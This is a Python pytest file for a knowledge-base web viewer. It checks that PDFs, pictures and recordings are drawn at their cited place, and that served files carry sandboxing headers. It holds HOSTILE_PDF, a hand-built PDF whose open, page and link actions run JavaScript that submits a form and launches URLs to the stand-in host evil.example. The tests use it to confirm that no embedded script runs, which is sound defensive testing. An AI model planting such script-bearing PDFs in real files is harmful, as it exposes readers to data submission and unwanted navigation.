"""PDFs, pictures and recordings on the page: drawn at the cited place, and nothing in them runs."""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from browser import chromium, let_in, needs_browser
from conftest import NOTES, Vault, make_vault, run_kb
from media_fixtures import IMAGES, MEDIA, MODELS, SPEECH, needs_decoder, needs_tesseract, needs_whisper
from web_fixtures import Served, serving

from kb.wire.schemas import validate

if TYPE_CHECKING:
    from playwright.sync_api import Browser

pytest.importorskip("pymupdf")

# A page with a word, which would run a script when it is opened, when it is shown and when it is clicked.
HOSTILE_PDF = b"""%PDF-1.7
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('https://evil.example'\\))>>
/Names<</JavaScript<</Names[(x)<</S/JavaScript/JS(app.launchURL\\('https://evil.example'\\))>>]>>>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>
/AA<</O<</S/URI/URI(https://evil.example/opened)>>>>/Annots[6 0 R]>>endobj
4 0 obj<</Length 47>>stream
BT /F 18 Tf 20 150 Td (A hostile zebra) Tj ET
endstream endobj
5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj
6 0 obj<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A<</S/JavaScript/JS(app.alert\\(2\\))>>>>endobj
trailer<</Root 1 0 R>>
"""


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as made:
        yield made


@pytest.fixture(scope="module")
def of_pdfs(tmp_path_factory: pytest.TempPathFactory) -> Vault:
    made = make_vault(tmp_path_factory.mktemp("pdfs"), {})
    shutil.copy(MEDIA / "pdf" / "handbook-en.pdf", made.root)
    (made.root / "hostile.pdf").write_bytes(HOSTILE_PDF)
    assert run_kb("--config", str(made.config), "ingest", "--no-embed").code == 0
    return made


@pytest.fixture(scope="module")
def served(of_pdfs: Vault) -> Iterator[Served]:
    with serving(of_pdfs) as made:
        yield made


def test_a_passage_says_where_on_its_page_it_stands(served: Served) -> None:
    hit = served.ask("/api/search", {"q": "Fir Landing battery"}).json["hits"][0]
    at = {"at": hit["citation"]["uri"]}
    by_page = served.ask("/api/document", at).json
    validate("doc_view.v1", by_page)
    assert by_page["citation"]["regions"] == []
    assert "Fir Landing" in by_page["place_text"]
    shown = served.ask("/api/document", {**at, "passage": hit["chunk_id"]}).json
    assert len(shown["citation"]["regions"]) > 0
    assert (shown["html"], shown["lines"], shown["speech"]) == (None, None, [])
    assert served.ask("/api/document", {"at": "hostile.pdf", "passage": hit["chunk_id"]}).json["citation"] is None


def test_a_file_is_handed_out_so_that_a_browser_runs_nothing_of_it(served: Served, of_pdfs: Vault) -> None:
    handed = served.ask("/file", {"path": "handbook-en.pdf"})
    assert handed.body == (of_pdfs.root / "handbook-en.pdf").read_bytes()
    assert handed.headers["content-type"] == "application/pdf"
    assert handed.headers["content-disposition"] == "attachment"
    assert handed.headers["content-security-policy"].startswith("sandbox")
    part = served.ask("/file", {"path": "handbook-en.pdf"}, headers={**served.let_in, "range": "bytes=0-4"})
    assert (part.status, part.body) == (206, b"%PDF-")


def test_only_the_worker_that_draws_may_compile(served: Served) -> None:
    policy = served.ask("/static/pdfjs/pdf.worker.min.mjs").headers["content-security-policy"]
    assert "'wasm-unsafe-eval'" in policy
    assert "'unsafe-eval'" not in policy
    assert "unsafe" not in served.ask("/static/pdfjs/pdf.min.mjs").headers["content-security-policy"]


def test_what_is_kept_of_pdf_js_has_its_licence() -> None:
    folder = Path(__file__).parents[1] / "kb/web/static/pdfjs"
    assert "Apache License" in (folder / "LICENSE").read_text(encoding="utf-8")
    assert {path.name for path in folder.glob("*/LICENSE*")} > {"LICENSE"}
    assert sum(path.stat().st_size for path in folder.rglob("*") if path.is_file()) < 2_600_000


@needs_browser
def test_a_pdf_is_drawn_at_its_page_with_the_passage_marked(browser: Browser, served: Served) -> None:
    with let_in(browser, served) as watched:
        page = watched.page
        page.keyboard.type("Fir Landing battery")
        page.wait_for_selector("a.hit")
        page.keyboard.press("ArrowDown")
        page.wait_for_selector(".sheet .rectangle")
        marked = page.locator(".rectangle").first.bounding_box()
        sheet = page.locator(".sheet:has(.rectangle)")
        page.wait_for_selector(".sheet:has(.rectangle)[data-drawn=yes] .page-text span")
        words = sheet.locator(".page-text span", has_text="Fir").first.bounding_box()
        assert marked is not None
        assert words is not None
        rectangles = [box for each in page.locator(".rectangle").all() if (box := each.bounding_box())]
        middle = words["y"] + words["height"] / 2
        assert any(box["y"] <= middle <= box["y"] + box["height"] for box in rectangles)
        assert page.evaluate("() => document.querySelector('.sheet canvas').width") > 300
        assert (watched.faults, watched.foreign) == ([], [])


@needs_browser
def test_a_pdf_runs_none_of_its_scripts(browser: Browser, served: Served) -> None:
    with let_in(browser, served) as watched:
        page = watched.go(served, "/?at=hostile.pdf%23page=1")
        page.wait_for_selector(".sheet[data-drawn=yes] .page-text span")
        assert "hostile zebra" in page.locator(".page-text").inner_text()
        page.locator(".sheet").click()
        page.wait_for_timeout(500)
        assert (watched.faults, watched.foreign) == ([], [])
        assert len(page.context.pages) == 1


@needs_browser
def test_what_is_no_pdf_any_more_says_so(browser: Browser, tmp_path: Path) -> None:
    vault = make_vault(tmp_path, {})
    (vault.root / "a.pdf").write_bytes(HOSTILE_PDF)
    assert run_kb("--config", str(vault.config), "ingest", "--no-embed").code == 0
    for kept in (vault.sqlite.parent / "assets").rglob("*"):
        if kept.is_file():
            kept.chmod(0o600)
            kept.write_bytes(b"no pdf")
    with serving(vault) as served, let_in(browser, served) as watched:
        page = watched.go(served, "/?at=a.pdf%23page=1")
        page.wait_for_selector("#reader [role=alert]")
        assert "hostile zebra" in page.locator(".read-there").inner_text()


@pytest.mark.slow
@needs_browser
@needs_tesseract
def test_a_picture_is_shown_with_its_region(browser: Browser, tmp_path: Path) -> None:
    vault = make_vault(tmp_path, NOTES)
    shutil.copy(IMAGES / "ko-serif.png", vault.root)
    assert run_kb("--config", str(vault.config), "ingest", "--no-embed").code == 0
    with serving(vault) as served, let_in(browser, served) as watched:
        page = watched.page
        page.keyboard.type("도서관")
        page.wait_for_selector("a.hit .thumb")
        page.keyboard.press("ArrowDown")
        page.wait_for_selector(".frame .rectangle")
        assert "도서관" in page.locator(".read-there").inner_text()
        assert watched.faults == []


@pytest.mark.slow
@needs_browser
@needs_decoder
@needs_whisper
def test_a_recording_is_ready_at_its_second_beside_what_is_said(browser: Browser, tmp_path: Path) -> None:
    vault = make_vault(tmp_path, NOTES)
    shutil.copy(SPEECH / "meeting.mp3", vault.root)
    models = ("--set", f"storage.model_dir={MODELS}")
    assert run_kb("--config", str(vault.config), *models, "ingest", "--no-embed").code == 0
    with serving(vault) as served, let_in(browser, served) as watched:
        page = watched.go(served, "/?at=meeting.mp3%23t=22,25")
        page.wait_for_selector(".speech .cited")
        page.wait_for_function("() => Math.abs(document.querySelector('audio').currentTime - 22) < 0.1")
        assert page.locator(".speech li").count() > 3
        assert watched.faults == []
